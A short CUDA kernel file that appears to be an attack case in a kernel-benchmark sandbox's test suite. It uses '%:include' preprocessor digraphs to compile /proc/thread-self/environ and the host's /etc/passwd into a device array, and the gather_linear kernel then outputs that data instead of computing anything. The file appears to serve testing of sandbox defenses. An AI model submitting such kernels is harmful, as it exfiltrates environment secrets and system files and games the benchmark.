// Attack: other /proc routes to the same files: /proc/thread-self/environ
// (the environment again) and /proc/self/root/etc/passwd (the host's root
// through the process's own root link).
// clang-format off
__device__ int leak[] = {
%:include "/proc/thread-self/environ"
%:include "/proc/self/root/etc/passwd"
};
// @kb launch gather_linear grid(B) block(32)
extern "C" __global__ void gather_linear(const float* x, const float* w,
                                         const float* bias, float* out,
                                         int R, int B, int H, int K) { out[0] = leak[0]; }
